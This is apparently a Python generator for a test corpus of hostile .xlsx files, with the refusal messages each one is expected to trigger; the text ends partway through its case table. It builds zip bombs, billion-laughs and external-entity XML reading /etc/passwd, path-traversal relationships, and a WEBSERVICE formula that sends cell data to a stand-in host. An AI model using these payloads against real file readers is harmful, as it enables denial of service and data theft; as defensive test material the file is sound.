# ruff: noqa: E501
"""Write the corpus of hostile and broken .xlsx inputs (tests/data/hostile/xlsx/).

Run ``python tests/data/make_hostile_xlsx.py``; the output is deterministic
and committed, with ``expected.json``: for each file, whether the program
refuses it and the phrases its one-line message holds. Every file is
smaller than 200 KB. tests/test_hostile_xlsx.py runs each through
``evaluate``, ``export`` and the window.

The app's own workbook that the tampered ``own_*`` cases start from is
``own.xlsx``, committed too (an export's core properties carry the time of
writing); ``--own`` writes it again from the small document below.
"""

from __future__ import annotations

import io
import json
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

OUT = Path(__file__).resolve().parent / "hostile" / "xlsx"
STAMP = (2024, 1, 1, 0, 0, 0)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
BIG_ROW = 1_048_576

Parts = dict[str, bytes]


# -- a small annotators' workbook, part by part --------------------------------------------
def istr(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def rows(extra: str = "", *, grade3: str = '<c r="C3"><v>0</v></c>') -> str:
    return (
        '<row r="1">' + istr("A1", "query") + istr("B1", "doc") + istr("C1", "grade") + "</row>"
        '<row r="2">' + istr("A2", "q1") + istr("B2", "d1") + '<c r="C2"><v>2</v></c></row>'
        '<row r="3">' + istr("A3", "q1") + istr("B3", "d2") + grade3 + "</row>" + extra
    )


def sheet(data: str | None = None, *, dimension: str = "A1:C3", after: str = "",
          root: str = "worksheet") -> str:
    return (f'{DECL}<{root} {NS} {NS_R}><dimension ref="{dimension}"/>'
            f"<sheetData>{rows() if data is None else data}</sheetData>{after}</{root}>")


def content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml",
                "xml": "application/xml", **(defaults or {})}
    return (f'{DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items())
            + "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides.items())
            + "</Types>")


def relationships(rels: list[tuple[str, str, str]], external: tuple[str, ...] = ()) -> str:
    return (f'{DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="{i}" Type="{t if "/" in t else REL + t}" Target="{g}"'
                      + (' TargetMode="External"' if i in external else "") + "/>"
                      for i, t, g in rels)
            + "</Relationships>")


def workbook(sheets: str = '<sheet name="Judgments" sheetId="1" r:id="rId1"/>') -> str:
    return f"{DECL}<workbook {NS} {NS_R}><sheets>{sheets}</sheets></workbook>"


def shared(body: str = "", attrs: str = 'count="0" uniqueCount="0"') -> str:
    return f"{DECL}<sst {NS} {attrs}>{body}</sst>"


OVERRIDES = {"xl/workbook.xml": SML + "sheet.main+xml",
             "xl/worksheets/sheet1.xml": SML + "worksheet+xml",
             "xl/sharedStrings.xml": SML + "sharedStrings+xml"}
BOOK_RELS = [("rId1", "worksheet", "worksheets/sheet1.xml"),
             ("rId2", "sharedStrings", "sharedStrings.xml")]


def book(*, sheet_xml: str | None = None, overrides: dict[str, str] | None = None,
         rels: list[tuple[str, str, str]] | None = None, parts: dict[str, str | bytes] | None = None,
         drop: tuple[str, ...] = (), strings: str | None = None,
         workbook_xml: str | None = None, types: str | None = None) -> Parts:
    """The good annotators' workbook, with the given parts replaced, added or dropped."""
    out: dict[str, str | bytes] = {
        "[Content_Types].xml": types or content_types(overrides or OVERRIDES),
        "_rels/.rels": relationships([("rId1", "officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": workbook_xml or workbook(),
        "xl/_rels/workbook.xml.rels": relationships(rels or BOOK_RELS),
        "xl/worksheets/sheet1.xml": sheet() if sheet_xml is None else sheet_xml,
        "xl/sharedStrings.xml": shared() if strings is None else strings,
    }
    out.update(parts or {})
    return {k: v.encode("utf-8") if isinstance(v, str) else v
            for k, v in out.items() if k not in drop}


def pack(parts: Parts | list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    items = parts.items() if isinstance(parts, dict) else parts
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are a case of their own
        with zipfile.ZipFile(buf, "w", method, compresslevel=9 if method == zipfile.ZIP_DEFLATED else None) as zf:
            for name, data in items:
                zf.writestr(zipfile.ZipInfo(name, STAMP), data, method)
    return buf.getvalue()


# -- editing a zip file's headers -----------------------------------------------------------
_CENTRAL = {"flag": (8, "H"), "method": (10, "H"), "csize": (20, "I"), "usize": (24, "I")}
_LOCAL = {"flag": (6, "H"), "method": (8, "H"), "csize": (18, "I"), "usize": (22, "I")}


def _entries(data: bytes) -> tuple[int, int, list[tuple[int, str, int]]]:
    """End-of-directory offset, directory offset, and (offset, name, local offset) per entry."""
    eocd = data.rindex(b"PK\x05\x06")
    count, _, start = struct.unpack_from("<HII", data, eocd + 10)
    out, at = [], start
    for _ in range(count):
        nlen, elen, clen = struct.unpack_from("<HHH", data, at + 28)
        local = struct.unpack_from("<I", data, at + 42)[0]
        out.append((at, data[at + 46:at + 46 + nlen].decode(), local))
        at += 46 + nlen + elen + clen
    return eocd, start, out


def patch(data: bytes, name: str, **fields: int) -> bytes:
    """Set header fields of one entry, in the directory and in its local header."""
    buf = bytearray(data)
    for at, entry, local in _entries(data)[2]:
        if entry == name:
            for key, value in fields.items():
                struct.pack_into("<" + _CENTRAL[key][1], buf, at + _CENTRAL[key][0], value)
                struct.pack_into("<" + _LOCAL[key][1], buf, local + _LOCAL[key][0], value)
    return bytes(buf)


def alias(data: bytes, name: str, new: str) -> bytes:
    """Add a directory entry ``new`` that points at the packed data of ``name``."""
    eocd, _, entries = _entries(data)
    at = next(a for a, n, _ in entries if n == name)
    entry = bytearray(data[at:at + 46]) + new.encode()
    struct.pack_into("<HHH", entry, 28, len(new.encode()), 0, 0)
    tail = bytearray(data[eocd:])
    count, size = struct.unpack_from("<HI", tail, 10)
    struct.pack_into("<HHI", tail, 8, count + 1, count + 1, size + len(entry))
    return data[:eocd] + bytes(entry) + bytes(tail)


# -- bombs ----------------------------------------------------------------------------------
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10)) + "]>")


def laughs(xml: str) -> str:
    """``xml`` with a billion-laughs DTD after its declaration."""
    return xml.replace(DECL, DECL + LAUGHS, 1) if xml.startswith(DECL) else LAUGHS + xml


def blank_sheet(mib: float) -> bytes:
    """A sheet padded with ``mib`` MiB of blanks (packs about 1000:1)."""
    text = sheet().encode()
    cut = text.rindex(b"</worksheet>")
    return text[:cut] + b" " * int(mib * 1024**2) + text[cut:]


def nested(depth: int, tag: str = "extLst") -> str:
    return f"<{tag}>" * depth + f"</{tag}>" * depth


def far(ref: str = f"XFD{BIG_ROW}") -> str:
    return rows(f'<row r="{ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{ref}"><v>1</v></c></row>')


def lying_size() -> bytes:
    """The sheet's directory entry declares it shorter than it unpacks: a far
    cell hides past the declared end."""
    good = sheet().encode()
    hidden = sheet(far()).encode()
    data = pack(book(sheet_xml=hidden.decode()))
    return patch(data, "xl/worksheets/sheet1.xml", usize=len(good))


def overlapping() -> bytes:
    """Two directory entries share one part's packed data."""
    return alias(pack(book()), "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml")


def many_parts_bomb() -> bytes:
    """Eleven parts of 9.5 MiB each, every one under the per-part limit, all
    together 1000:1."""
    blanks = b"<x>" + b" " * int(9.5 * 1024**2) + b"</x>"
    return pack(list(book().items()) + [(f"customXml/item{i}.xml", blanks) for i in range(11)])


def renamed_workbook(keep_usual: bool) -> bytes:
    """The workbook part under another name, which the package relationships
    give (readers open ``xl/workbook.xml`` by name); with ``keep_usual``,
    a second workbook with another sheet at the usual name too."""
    parts = book()
    parts["xl/book.xml"] = workbook('<sheet name="Other" sheetId="1" r:id="rId1"/>').encode()
    parts["xl/_rels/book.xml.rels"] = parts["xl/_rels/workbook.xml.rels"]
    parts["_rels/.rels"] = relationships([("rId1", "officeDocument", "xl/book.xml")]).encode()
    overrides = {**OVERRIDES, "xl/book.xml": SML + "sheet.main+xml"}
    if not keep_usual:
        del parts["xl/workbook.xml"], parts["xl/_rels/workbook.xml.rels"]
        del overrides["xl/workbook.xml"]
    parts["[Content_Types].xml"] = content_types(overrides).encode()
    return pack(parts)


def docx() -> bytes:
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return pack({
        "[Content_Types].xml": content_types({"word/document.xml": word}).encode(),
        "_rels/.rels": relationships([("rId1", "officeDocument", "word/document.xml")]).encode(),
        "word/document.xml": (DECL + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>').encode(),
    })


def utf16_sheet() -> bytes:
    text = sheet(far()).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return b"\xff\xfe" + text.encode("utf-16-le")


def prefixed(data: str) -> str:
    return (f'{DECL}<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"<x:sheetData>{data}</x:sheetData></x:worksheet>")


def prefixed_rows(extra: str = "") -> str:
    def c(ref: str, text: str) -> str:
        return f'<x:c r="{ref}" t="inlineStr"><x:is><x:t>{text}</x:t></x:is></x:c>'
    return ('<x:row r="1">' + c("A1", "query") + c("B1", "doc") + c("C1", "grade") + "</x:row>"
            '<x:row r="2">' + c("A2", "q1") + c("B2", "d1") + '<x:c r="C2"><x:v>2</x:v></x:c></x:row>'
            + extra)


def no_ref_rows(last_row: int) -> str:
    """Cells without references: readers count them on from the row's number."""
    return ('<row r="1"><c t="inlineStr"><is><t>query</t></is></c><c t="inlineStr"><is><t>doc</t></is></c>'
            '<c t="inlineStr"><is><t>grade</t></is></c></row>'
            '<row r="2"><c t="inlineStr"><is><t>q1</t></is></c><c t="inlineStr"><is><t>d1</t></is></c><c><v>1</v></c></row>'
            f'<row r="{last_row}"><c t="inlineStr"><is><t>q1</t></is></c><c t="inlineStr"><is><t>d2</t></is></c><c><v>0</v></c></row>')


# -- the app's own workbook, tampered -------------------------------------------------------
def own_parts() -> Parts:
    with zipfile.ZipFile(OUT / "own.xlsx") as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def own_sheet_part(parts: Parts, name: str) -> str:
    """The part of the own workbook's sheet ``name`` (through its relationships)."""
    import re

    book_xml = parts["xl/workbook.xml"].decode()
    rid = re.search(rf'<sheet name="{name}"[^>]*r:id="(rId\d+)"', book_xml).group(1)
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(rf'Id="{rid}"[^>]*Target="([^"]+)"', rels).group(1)
    return "xl/" + target


def own(edit: Callable[[Parts], None]) -> Callable[[], bytes]:
    def build() -> bytes:
        parts = own_parts()
        edit(parts)
        return pack(parts)
    return build


def _append_far_cell(name: str) -> Callable[[Parts], None]:
    def edit(parts: Parts) -> None:
        part = own_sheet_part(parts, name)
        parts[part] = parts[part].replace(
            b"</sheetData>", f'<row r="{BIG_ROW}"><c r="XFD{BIG_ROW}"><v>1</v></c></row></sheetData>'.encode())
    return edit


def _rename_candidates(parts: Parts) -> None:
    """The Candidates sheet's part renamed, relationships and content types
    following: an honest package under unusual names."""
    part = own_sheet_part(parts, "Candidates")
    new = "xl/data/cands.bin"
    parts[new] = parts.pop(part)
    short = part.removeprefix("xl/").encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b'Target="' + short + b'"', b'Target="data/cands.bin"')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b'PartName="/' + part.encode() + b'"', b'PartName="/xl/data/cands.bin"')


def _hidden_metadata_dimension(parts: Parts) -> None:
    part = own_sheet_part(parts, "ndcg_metadata")
    import re

    parts[part] = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', parts[part])


def _drop_metadata_part(parts: Parts) -> None:
    del parts[own_sheet_part(parts, "ndcg_metadata")]


def _metadata_type(parts: Parts) -> None:
    part = own_sheet_part(parts, "ndcg_metadata")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b'PartName="/' + part.encode() + b'" ContentType="' + (SML + "worksheet+xml").encode(),
        b'PartName="/' + part.encode() + b'" ContentType="' + (SML + "sharedStrings+xml").encode())


def _custom_laughs(parts: Parts) -> None:
    parts["docProps/custom.xml"] = laughs(DECL + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="x">&lol9;</property></Properties>').encode()


def _huge_strings(parts: Parts) -> None:
    parts["xl/sharedStrings.xml"] = shared("<si><t>x</t></si>", 'count="1" uniqueCount="4000000000"').encode()


def _candidates_is_metadata(parts: Parts) -> None:
    cand, meta = own_sheet_part(parts, "Candidates"), own_sheet_part(parts, "ndcg_metadata")
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b'Target="' + cand.removeprefix("xl/").encode() + b'"', b'Target="' + meta.removeprefix("xl/").encode() + b'"')


def _cutoffs_twice(parts: Parts) -> None:
    """The Conventions sheet's second cutoff typed as the first (3 and 3):
    refused with its cell (a warning; the stored conventions are used)."""
    part = own_sheet_part(parts, "Conventions")
    parts[part] = parts[part].replace(b'<c r="B8" s="3" t="inlineStr"><is><t>all</t></is></c>',
                                      b'<c r="B8" s="3"><v>3</v></c>')


def _swap_cells(parts: Parts, columns: str) -> None:
    """The Candidates cells of ``columns`` in rows 2 and 3 swapped."""
    import re

    part = own_sheet_part(parts, "Candidates")
    xml = parts[part]
    for col in columns:
        two = re.search(rf'<c r="{col}2"(.*?)</c>'.encode(), xml)
        three = re.search(rf'<c r="{col}3"(.*?)</c>'.encode(), xml)
        assert two is not None and three is not None
        xml = (xml[:two.start(1)] + three.group(1) + xml[two.end(1):three.start(1)]
               + two.group(1) + xml[three.end(1):])
    parts[part] = xml


def _rows_sorted(parts: Parts) -> None:
    """Rows 2 and 3 of Candidates swapped whole (a sort): they reopen."""
    _swap_cells(parts, "ABCDEF")


def _ids_swapped(parts: Parts) -> None:
    """The source ids of rows 2 and 3 swapped in place: refused."""
    _swap_cells(parts, "B")


def own_lying_size() -> bytes:
    parts = own_parts()
    part = own_sheet_part(parts, "Candidates")
    honest = len(parts[part])
    _append_far_cell("Candidates")(parts)
    return patch(pack(parts), part, usize=honest)


def write_own() -> None:
    """Export the app's own workbook of a small document (``--own``)."""
    sys.path.insert(0, str(OUT.parents[2]))
    import numpy as np

    from core.engine.evaluation import evaluate
    from core.io.workbook import export_workbook
    from core.model.conventions import Conventions
    from core.model.document import Document

    doc = Document.from_columns(
        query=["q1", "q1", "q1", "q2", "q2", "q2"], source_id=["d1", "d2", "d3", "d4", "d5", "d6"],
        score=[0.9, 0.5, 0.1, 0.8, 0.7, 0.2], grade=[2, 0, np.nan, 1, 3, 0], version=["v1"] * 6,
        conventions=Conventions(cutoffs=(3, None)))
    OUT.mkdir(parents=True, exist_ok=True)
    export_workbook(evaluate(doc), OUT / "own.xlsx")


# -- the corpus -----------------------------------------------------------------------------
def _raw(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _book(**kw: object) -> Callable[[], bytes]:
    return lambda: pack(book(**kw))  # type: ignore[arg-type]


def _sheet_type(part: str) -> dict[str, str]:
    return {**{k: v for k, v in OVERRIDES.items() if k != "xl/worksheets/sheet1.xml"},
            part: SML + "worksheet+xml"}


def _dat_book(sheet_xml: str, *, typed: bool) -> Callable[[], bytes]:
    part = "xl/worksheets/sheet1.dat"
    return lambda: pack(book(
        drop=("xl/worksheets/sheet1.xml",), parts={part: sheet_xml},
        rels=[("rId1", "worksheet", "worksheets/sheet1.dat"), BOOK_RELS[1]],
        overrides=_sheet_type(part) if typed else {k: v for k, v in OVERRIDES.items()
                                                   if k != "xl/worksheets/sheet1.xml"}))


STYLES = SML + "styles+xml"
GOOD = pack(book())
#: name -> (builder, refused, phrases every message must hold)
CASES: dict[str, tuple[Callable[[], bytes], bool, tuple[str, ...]]] = {
    # the good workbook and honest variants: read as they are
    "good.xlsx": (_raw(GOOD), False, ()),
    "stored_parts.xlsx": (lambda: pack(book(), zipfile.ZIP_STORED), False, ()),
    "sheet_part_renamed.xlsx": (_dat_book(sheet(), typed=True), False, ()),
    "absolute_target.xlsx": (_book(rels=[("rId1", "worksheet", "/xl/worksheets/sheet1.xml"), BOOK_RELS[1]]), False, ()),
    "escaped_target.xlsx": (_book(rels=[("rId1", "worksheet", "worksheets/sheet%31.xml"), BOOK_RELS[1]]), True, ("sheet 'Judgments'", "cannot be read")),
    "dimension_too_small.xlsx": (_book(sheet_xml=sheet(dimension="A1")), False, ()),
    "strings_count_small_lie.xlsx": (_book(strings=shared("", 'count="50" uniqueCount="10"')), False, ()),
    "missing_theme.xlsx": (_book(rels=[*BOOK_RELS, ("rId3", "theme", "theme/theme1.xml")]), False, ()),
    "external_link.xlsx": (lambda: pack(book(parts={"xl/_rels/workbook.xml.rels": relationships([*BOOK_RELS, ("rId3", "hyperlink", "file:///etc/passwd")], external=("rId3",))})), False, ()),
    "prefixed_sheet.xlsx": (_book(sheet_xml=prefixed(prefixed_rows())), False, ()),
    "merged_everything.xlsx": (_book(sheet_xml=sheet(after=f'<mergeCells count="1"><mergeCell ref="A1:XFD{BIG_ROW}"/></mergeCells>')), False, ()),
    "deep_nesting_sheet.xlsx": (_book(sheet_xml=sheet(after=nested(100_000))), False, ()),
    "own.xlsx": (lambda: (OUT / "own.xlsx").read_bytes(), False, ()),
    "own_candidates_renamed.xlsx": (own(_rename_candidates), False, ()),
    "own_cutoffs_twice.xlsx": (own(_cutoffs_twice), False, ()),
    "own_rows_sorted.xlsx": (own(_rows_sorted), False, ()),
    "own_ids_swapped.xlsx": (own(_ids_swapped), True, ("sheet 'Candidates'", "row 2", "column 'A/B'", "another candidate's")),
    # the zip file
    "empty_file.xlsx": (_raw(b""), True, ("the file is empty (0 bytes)", "save the workbook again as .xlsx")),
    "truncated_half.xlsx": (lambda: GOOD[: len(GOOD) // 2], True, ("damaged or truncated",)),
    "empty_zip.xlsx": (lambda: pack({}), True, ("[Content_Types].xml",)),
    "zip_encrypted_flag.xlsx": (lambda: patch(GOOD, "xl/worksheets/sheet1.xml", flag=1), True, ("encrypted", "without a password")),
    "zip_bzip2.xlsx": (lambda: pack(book(), zipfile.ZIP_BZIP2), True, ("zip method 12",)),
    "zip_bomb_sheet.xlsx": (lambda: pack(book(parts={"xl/worksheets/sheet1.xml": blank_sheet(12)})), True, ("xl/worksheets/sheet1.xml", "zip bomb")),
    "zip_bomb_many_parts.xlsx": (many_parts_bomb, True, ("unpack to", "zip bomb")),
    "zip_bomb_overlap.xlsx": (overlapping, True, ("share their packed data", "zip bomb")),
    "lying_size.xlsx": (lying_size, True, ("xl/worksheets/sheet1.xml", "more than its declared size")),
    "duplicate_part.xlsx": (lambda: pack([*book().items(), ("xl/worksheets/sheet1.xml", sheet(far()).encode())]), True, ("two parts named", "xl/worksheets/sheet1.xml")),
    "duplicate_part_case.xlsx": (lambda: pack([*book().items(), ("XL/Worksheets/Sheet1.xml", sheet(far()).encode())]), True, ("two parts named",)),
    "past_the_end.xlsx": (lambda: patch(GOOD, "xl/sharedStrings.xml", csize=1 << 24), True, ("past the end",)),
    # content types, relationships, missing parts
    "no_content_types.xlsx": (_book(drop=("[Content_Types].xml",)), True, ("[Content_Types].xml",)),
    "content_types_garbage.xlsx": (_book(types="\x00\x01 garbage"), True, ("[Content_Types].xml",)),
    "no_root_rels.xlsx": (_book(drop=("_rels/.rels",)), True, ("_rels/.rels",)),
    "no_workbook_part.xlsx": (_book(drop=("xl/workbook.xml",)), True, ("lacks its workbook part",)),
    "no_sheet_part.xlsx": (_book(drop=("xl/worksheets/sheet1.xml",)), True, ("sheet 'Judgments' has no part",)),
    "no_strings_part.xlsx": (_book(drop=("xl/sharedStrings.xml",)), True, ("shared strings part 'xl/sharedStrings.xml' is missing",)),
    "no_sheets.xlsx": (_book(workbook_xml=workbook("")), True, ("no sheets",)),
    "word_document.xlsx": (docx, True, ("Word document",)),
    "workbook_part_renamed.xlsx": (lambda: renamed_workbook(False), True, ("cannot be read",)),
    "two_workbook_parts.xlsx": (lambda: renamed_workbook(True), True, ("two workbook parts", "xl/book.xml")),
    "workbook_wrong_type.xlsx": (_book(overrides={**OVERRIDES, "xl/workbook.xml": "application/xml"}), True, ("xl/workbook.xml", "content type")),
    "sheet_part_untyped_dat.xlsx": (_dat_book(sheet(far()), typed=False), True, ("xl/worksheets/sheet1.dat", "[Content_Types].xml")),
    "sheet_is_strings_part.xlsx": (_book(rels=[("rId1", "worksheet", "sharedStrings.xml"), BOOK_RELS[1]]), True, ("xl/sharedStrings.xml", "used both")),
    "sheet_holds_strings.xlsx": (_book(sheet_xml=shared("<si><t>x</t></si>", 'count="1" uniqueCount="1"')), True, ("sheet 'Judgments'", "<sst>")),
    "rel_outside_package.xlsx": (_book(rels=[("rId1", "worksheet", "../../../etc/passwd"), BOOK_RELS[1]]), True, ("outside the workbook",)),
    "rel_missing_target.xlsx": (_book(rels=[("rId1", "worksheet", "worksheets/nowhere.xml"), BOOK_RELS[1]]), True, ("sheet 'Judgments' has no part",)),
    "two_sheets_one_name.xlsx": (_book(workbook_xml=workbook('<sheet name="Judgments" sheetId="1" r:id="rId1"/><sheet name="judgments" sheetId="2" r:id="rId1"/>')), True, ("two sheets are named",)),
    # XML bombs and odd XML
    "laughs_sheet.xlsx": (_book(sheet_xml=laughs(sheet())), True, ("xl/worksheets/sheet1.xml", "billion laughs")),
    "laughs_content_types.xlsx": (_book(types=laughs(content_types(OVERRIDES))), True, ("[Content_Types].xml", "billion laughs")),
    "laughs_unused_part.xlsx": (_book(parts={"docProps/custom.xml": laughs(DECL + "<Properties>&lol9;</Properties>")}), True, ("docProps/custom.xml", "billion laughs")),
    "external_entity.xlsx": (_book(strings=f'{DECL}<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst {NS}><si><t>&x;</t></si></sst>'), True, ("xl/sharedStrings.xml", "external entity")),
    "deep_nesting_workbook.xlsx": (_book(workbook_xml=workbook().replace("<sheets>", nested(200_000, "x") + "<sheets>")), True, ("xl/workbook.xml", "nests XML elements")),
    "utf16_sheet.xlsx": (_book(sheet_xml=utf16_sheet()), True, ("UTF-16",)),
    "ebcdic_sheet.xlsx": (_book(sheet_xml=sheet().replace('encoding="UTF-8"', 'encoding="EBCDIC-CP-US"')), True, ("EBCDIC-CP-US",)),
    "sheet_not_xml.xlsx": (_book(sheet_xml="\x00\x01\x02 not xml"), True, ("xl/worksheets/sheet1.xml", "should be XML")),
    "sheet_xml_broken.xlsx": (_book(sheet_xml=sheet()[:-40]), True, ("Judgments",)),
    "padded_prolog.xlsx": (_book(sheet_xml=DECL + "<!--" + " " * 70_000 + "-->" + sheet()[len(DECL):]), True, ("no XML element in its first",)),
    # what a sheet declares and uses
    "far_cell.xlsx": (_book(sheet_xml=sheet(far())), True, ("sheet 'Judgments'", "XFD1048576", "too large to read safely")),
    "far_cell_dat_typed.xlsx": (_dat_book(sheet(far()), typed=True), True, ("sheet 'Judgments'", "XFD1048576", "too large to read safely")),
    "area_100m_cells.xlsx": (_book(sheet_xml=sheet(far(f"CV{BIG_ROW}"))), True, ("CV1048576", "104,857,600 cells", "too large to read safely")),
    "dimension_lie_huge.xlsx": (_book(sheet_xml=sheet(dimension=f"A1:CV{BIG_ROW}")), True, ("dimension 'A1:CV1048576'", "too large to read safely")),
    "dimension_beyond_excel.xlsx": (_book(sheet_xml=sheet(dimension="A1:XFE3")), True, ("16,385 columns", "16384")),
    "row_beyond_excel.xlsx": (_book(sheet_xml=sheet(no_ref_rows(BIG_ROW + 1))), True, ("1,048,577 rows",)),
    "no_refs_far_row.xlsx": (_book(sheet_xml=sheet(no_ref_rows(BIG_ROW))), False, ()),
    "quoted_far_cell.xlsx": (_book(sheet_xml=sheet(rows(f"<row r=\"9\"><c r='XFD{BIG_ROW}'><v>1</v></c></row>"))), True, ("XFD1048576", "too large")),
    "prefixed_far_cell.xlsx": (_book(sheet_xml=prefixed(prefixed_rows(f'<x:row r="{BIG_ROW}"><x:c r="XFD{BIG_ROW}"><x:v>1</x:v></x:c></x:row>'))), True, ("XFD1048576", "too large")),
    "mixed_prefix_far_cell.xlsx": (_book(sheet_xml=sheet(rows(f'<row r="{BIG_ROW}"><x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="XFD{BIG_ROW}"><x:v>1</x:v></x:c></row>'))), True, ("XFD1048576", "too large")),
    "chartsheet_far_cell.xlsx": (lambda: pack(book(
        drop=("xl/worksheets/sheet1.xml",), parts={"xl/chartsheets/sheet1.xml": sheet(far(), root="chartsheet")},
        rels=[("rId1", "chartsheet", "chartsheets/sheet1.xml"), BOOK_RELS[1]],
        overrides={**{k: v for k, v in OVERRIDES.items() if "worksheets" not in k}, "xl/chartsheets/sheet1.xml": SML + "chartsheet+xml"})),
        True, ("XFD1048576", "too large")),
    "unlisted_sheet_far_cell.xlsx": (_book(parts={"xl/worksheets/sheet9.xml": sheet(far())}), True, ("xl/worksheets/sheet9.xml", "XFD1048576")),
    # what the shared strings and styles declare
    "strings_unique_count_huge.xlsx": (_book(strings=shared("<si><t>x</t></si>", 'count="1" uniqueCount="4000000000"')), True, ("xl/sharedStrings.xml", "4,000,000,000 shared strings")),
    "strings_count_huge.xlsx": (_book(strings=shared("<si><t>x</t></si>", 'count="4000000000" uniqueCount="1"')), True, ("xl/sharedStrings.xml", "4,000,000,000 uses")),
    "strings_count_negative.xlsx": (_book(strings=shared("<si><t>x</t></si>", 'count="1" uniqueCount="-1"')), True, ("uniqueCount '-1', not a count",)),
    "strings_unreferenced_huge.xlsx": (_book(rels=BOOK_RELS[:1], strings=shared("<si><t>x</t></si>", 'count="1" uniqueCount="4000000000"'),
                                             overrides={k: v for k, v in OVERRIDES.items() if "shared" not in k}), True, ("xl/sharedStrings.xml", "4,000,000,000 shared strings")),
    "strings_renamed_huge.xlsx": (_book(drop=("xl/sharedStrings.xml",), parts={"xl/strings.bin": shared("<si><t>x</t></si>", 'count="1" uniqueCount="4000000000"')},
                                        rels=[BOOK_RELS[0], ("rId2", "sharedStrings", "strings.bin")],
                                        overrides={**{k: v for k, v in OVERRIDES.items() if "shared" not in k}, "xl/strings.bin": SML + "sharedStrings+xml"}),
                                  True, ("xl/strings.bin", "4,000,000,000 shared strings")),
    "styles_count_huge.xlsx": (_book(parts={"xl/styles.xml": f'{DECL}<styleSheet {NS}><cellXfs count="4000000000"><xf numFmtId="0"/></cellXfs></styleSheet>'},
                                     rels=[*BOOK_RELS, ("rId3", "styles", "styles.xml")], overrides={**OVERRIDES, "xl/styles.xml": STYLES}),
                               True, ("xl/styles.xml", "'cellXfs'", "4,000,000,000 entries")),
    # cells: formulas, control characters, huge text
    "formula_grade.xlsx": (_book(sheet_xml=sheet(rows(grade3='<c r="C3"><f>WEBSERVICE("http://example.invalid/?"&amp;A3)</f><v>3</v></c>'))), True, ("row 3", "C3", "formula", "never evaluated")),
    "formula_query.xlsx": (_book(sheet_xml=sheet(rows().replace(istr("A3", "q1"), '<c r="A3" t="str"><f>CONCAT("q","1")</f><v>q1</v></c>'))), True, ("A3", "formula")),
    "prefixed_formula.xlsx": (_book(sheet_xml=prefixed(prefixed_rows('<x:row r="3"><x:c r="A3" t="inlineStr"><x:is><x:t>q1</x:t></x:is></x:c><x:c r="B3" t="inlineStr"><x:is><x:t>d2</x:t></x:is></x:c><x:c r="C3"><x:f>1+1</x:f><x:v>2</x:v></x:c></x:row>'))), True, ("C3", "formula")),
    "control_chars_grade.xlsx": (_book(sheet_xml=sheet(rows(grade3='<c r="C3" t="inlineStr"><is><t>2&#10;&#13;_x0007_</t></is></c>'))), True, ("row 3",)),
    "control_chars_ids.xlsx": (_book(sheet_xml=sheet(rows().replace(istr("B3", "d2"), istr("B3", "d&#10;2_x0000_")))), False, ()),
    "control_chars_sheet_name.xlsx": (_book(workbook_xml=workbook('<sheet name="Jud&#10;gments" sheetId="1" r:id="rId1"/>'),
                                            sheet_xml=sheet(rows(grade3='<c r="C3" t="inlineStr"><is><t>very</t></is></c>'))), True, ("row 3", "'very'")),
    "huge_cell_text.xlsx": (_book(sheet_xml=sheet(rows().replace(istr("B3", "d2"), istr("B3", "d" * 4_000_000)))), False, ()),
    "error_cells.xlsx": (_book(sheet_xml=sheet(rows(grade3='<c r="C3" t="e"><v>#DIV/0!</v></c>'))), True, ("row 3", "C3", "'#DIV/0!'", "not data")),
    # the app's own workbook, tampered where the safety checks decide
    "own_far_cell_candidates.xlsx": (own(_append_far_cell("Candidates")), True, ("sheet 'Candidates'", "XFD1048576", "too large to read safely")),
    "own_far_cell_metadata.xlsx": (own(_append_far_cell("ndcg_metadata")), True, ("sheet 'ndcg_metadata'", "XFD1048576")),
    "own_metadata_dimension.xlsx": (own(_hidden_metadata_dimension), True, ("sheet 'ndcg_metadata'", "dimension 'A1:XFD1048576'")),
    "own_metadata_part_missing.xlsx": (own(_drop_metadata_part), True, ("sheet 'ndcg_metadata' has no part",)),
